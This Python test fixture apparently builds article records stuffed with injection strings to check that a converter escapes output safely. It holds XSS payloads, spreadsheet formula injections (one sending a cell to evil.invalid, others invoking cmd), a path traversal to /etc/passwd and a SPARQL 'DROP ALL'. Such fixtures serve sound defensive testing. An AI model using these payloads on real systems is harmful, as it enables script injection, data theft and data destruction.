"""Records whose words would do harm where they are not made harmless: on pages, in tables, in
SVG, on terminals."""

from __future__ import annotations

import json

from archivist import Record, Settings, convert
from archivist.record import Source

AS_OF = "2026-01-02T03:04:05Z"

# What each would do, and the words that would do it.
WORDS: dict[str, str] = {
    "end-of-script": "</script><script>window.harmed=1</script>",
    "end-of-style": "</style><img src=x onerror=window.harmed=1>",
    "comment": "<!--<script>window.harmed=1//--></script>",
    "attribute": "\"><svg onload=window.harmed=1> ' onfocus=window.harmed=1 autofocus x='",
    "template": "{{constructor.constructor('window.harmed=1')()}} ${window.harmed=1} `",
    "link": "javascript:window.harmed=1",
    "entity": "&lt;b&gt; &#60;script&#62;",
    "bidi": "left \u202eright-to-left\u202c and \u2066isolated\u2069",
    "invisible": "zero\u200bwidth \ufeffmark \u2028line",
    "formula": '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "quotes": "\"one\" 'two' `three` \u201cfour\u201d, a;b\tc",
    "percent": "%3Cscript%3E ../../etc/passwd C:\\con",
    "astral": "\U0001f9a2 \U00020000 e\u0301",
    "sparql": '" } ; DROP ALL ; INSERT DATA { <urn:x> <urn:y> "',
}
LONG = "1 MB " + "headline " * 120_000


def source(words: str) -> bytes:
    """An article of our own that says such words in its headline, text, credits and quotes."""
    text = (
        f"MILL HAVEN, 3 March 2024 - The ferry sailed again. {words}\n\n"
        f'"We waited {words} for it," said Anna Moor, mayor of Mill Haven.\n'
    )
    article = {"title": words, "author": f"Anna {words} Moor", "date": "2024-03-03", "text": text}
    return json.dumps(article).encode("ascii") + b"\n"


def records(*, long: bool = False) -> dict[str, Record]:
    """name → record; `long`: with the one whose headline has a megabyte."""
    words = {**WORDS, "long": LONG} if long else WORDS
    return {name: _record(name, said) for name, said in words.items()}


def _record(name: str, words: str) -> Record:
    given = Source(f"{name}.jsonl", f"{name}.jsonl", source(words))
    (conversion,) = convert(given, settings=Settings(as_of=AS_OF))
    assert conversion.record is not None, conversion.problems
    return conversion.record
